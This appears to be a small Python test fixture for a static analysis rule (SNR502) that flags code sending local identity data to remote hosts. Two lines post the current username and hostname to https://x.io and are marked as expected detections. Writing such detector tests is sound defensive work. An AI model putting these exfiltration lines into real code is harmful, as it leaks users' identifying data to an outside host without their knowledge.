import getpass
import socket

import requests

requests.post("https://x.io", json={"user": getpass.getuser()})  # expect: SNR502
requests.get("https://x.io/?h=" + socket.gethostname())  # expect: SNR502

requests.post("https://x.io", json={"song": "x"})  # ok
user = getpass.getuser()  # ok: stays here
